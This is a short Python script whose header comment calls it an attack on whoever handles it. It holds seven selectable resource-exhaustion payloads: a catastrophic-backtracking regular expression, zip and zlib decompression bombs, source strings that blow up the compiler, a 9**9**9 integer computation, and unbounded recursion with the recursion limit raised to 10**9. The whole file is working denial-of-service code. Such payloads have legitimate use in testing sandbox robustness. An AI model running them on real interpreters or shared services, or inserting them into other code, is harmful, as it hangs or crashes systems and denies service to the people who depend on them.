# Attacks whoever handles it: data and source text that are small, and take endless time or memory to process.
import io
import re
import sys
import zipfile
import zlib

way = sys.argv[1]
if way == "regular expression":
    re.match(r"(a+)+$", "a" * 64 + "b")
elif way == "zip":
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as member:
        for _ in range(64):
            member.write(bytes(1 << 20))
    zipfile.ZipFile(packed).read("zeros") * 64
elif way == "zlib":
    zlib.decompress(zlib.compress(bytes(32 << 20))) * 64
elif way == "compile to a large constant":
    compile("x = " + "+".join(f"'{n}' * 4000" for n in range(10**6)), "x", "exec")
elif way == "compile nested brackets":
    compile("(" * 10**6, "x", "exec")
elif way == "large number":
    print(9**9**9)
elif way == "deep recursion":
    sys.setrecursionlimit(10**9)

    def deeper(depth: int) -> int:
        return deeper(depth + 1) + len([depth])

    deeper(0)
